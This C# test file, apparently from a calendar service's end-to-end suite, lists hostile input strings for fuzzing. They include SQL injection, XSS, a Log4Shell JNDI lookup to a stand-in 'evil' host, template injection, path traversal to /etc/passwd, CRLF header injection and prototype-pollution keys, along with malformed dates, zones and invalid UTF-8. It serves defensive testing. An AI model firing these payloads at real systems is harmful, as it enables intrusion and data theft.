using System.Text;

namespace RealtimeCalendar.EndToEnd.Tests.HostileInput;

/// <summary>The raw material of hostile input: strings that have broken parsers, queries, paths and logs elsewhere.</summary>
internal static class HostileStrings
{
    public static readonly string[] Injection =
    [
        "' OR '1'='1", "\"; DROP TABLE events;--", "<script>alert(1)</script>", "${jndi:ldap://evil/a}", "{{7*7}}",
        "%s%s%s%n", "$where", "attribute_exists(pk)", "USER#someone-else", "pk = :pk OR 1=1", "\r\nX-Injected: 1",
        "\0", "%00", "\u202Eevil", "😀🗓️", "null", "undefined", "NaN", "-0", "__proto__", "../../etc/passwd",
        "..\\..\\windows\\win.ini", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "file:///etc/passwd", "\uFFFF\uFFFE", "\t\v\f",
    ];

    /// <summary>Path segments for <c>{id}</c>, escaped or not; none of them resolves to a real route after dot-segment removal.</summary>
    public static readonly string[] Ids =
    [
        "..%2F..%2Fetc%2Fpasswd", "%2e%2e%2f%2e%2e%2fetc%2fpasswd", "../../../../etc/passwd", "..%5C..%5Cwin.ini",
        "%00", "%27%20OR%20%271%27%3D%271", "%3Cscript%3Ealert(1)%3C%2Fscript%3E", "USER%23other", "null", "-1",
        "0", "00000000000000000000000000000000x", "0000000000000000000000000000000", "ABCDEF0123456789ABCDEF0123456789",
        "g0000000000000000000000000000000", "%F0%9F%98%80", "%C3%28", "%FF%FE", "a%20b", "%0D%0AX-Injected:%201",
        "{id}", "%7Bid%7D", "*", "~", ";", "%3B", "..%00", "%252e%252e%252f",
    ];

    public static readonly string[] BogusInstants =
    [
        "next tuesday", "2026-13-01T00:00:00Z", "2026-02-30T10:00:00Z", "2026-12-01T25:00:00Z", "2026-12-01T12:00:00",
        "2026-12-01", "0000-01-01T00:00:00Z", "0001-01-01T00:00:00Z", "9999-12-31T23:59:59-14:00", "2026-12-01T12:00:00+99:00",
        "2026-12-01T12:00:00+14:61", "1e10", "", " ", "2026-12-01T12:00:00Z\0", "2026-12-01 T12:00:00Z", "-2026-12-01T12:00:00Z",
        "+002026-12-01T12:00:00Z", "2026-W49-1T12:00:00Z", "Tue, 01 Dec 2026 12:00:00 GMT", "1764590400",
    ];

    public static readonly string[] BogusZones =
    [
        "Mars/Olympus_Mons", "../../../etc/passwd", "Europe/Berlin'; DROP TABLE events;--", "Etc/GMT+99", "\0", "UTC+25:00",
        "Europe/", "/", "Europe//Berlin", "America/New York", "Europe/Berlin\r\nX: 1", new string('Z', 300), "%00",
        "posix/Europe/Berlin", "right/UTC", "localtime", "posixrules", "Europe/./Berlin",
    ];

    public static readonly string[] UnknownFields = ["colour", "__proto__", "constructor", "$where", "pk", "userId", "Title", "start ", "owner"];

    /// <summary>Byte sequences that are never valid UTF-8: a broken pair, stray bytes, an overlong form, an encoded surrogate, a 5-byte form.</summary>
    public static readonly byte[][] InvalidUtf8 =
    [
        [0xC3, 0x28], [0xFF], [0x80], [0xC0, 0xAF], [0xED, 0xA0, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xE2, 0x82], [0xF4, 0x90, 0x80, 0x80],
    ];

    public static string Deep(int depth, char open = '[', char close = ']') =>
        new StringBuilder(depth * 2).Append(open, depth).Append(close, depth).ToString();

    /// <summary>Nested objects, which need a key at each level to be well-formed JSON.</summary>
    public static string DeepObject(int depth)
    {
        var text = new StringBuilder(depth * 7);
        for (var i = 0; i < depth; i++)
            text.Append("{\"a\":");
        text.Append('1').Append('}', depth);
        return text.ToString();
    }
}
